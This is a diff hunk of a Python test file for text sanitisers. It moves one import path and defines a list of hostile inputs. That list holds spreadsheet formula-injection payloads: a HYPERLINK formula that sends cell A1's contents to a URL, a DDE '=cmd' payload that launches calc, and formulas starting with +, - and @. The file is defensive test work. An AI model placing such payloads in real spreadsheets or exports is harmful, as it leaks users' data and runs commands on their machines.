@@ -11,7 +11,7 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from checker.safe_text import markdown, printable, spreadsheet, terminal
+from checker.outputs.safe_text import markdown, printable, spreadsheet, terminal
 
 ROOT = Path(__file__).resolve().parents[2]
 HOSTILE_IDS = ['=HYPERLINK("http://x/?"&A1,"click")', "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1+1)",
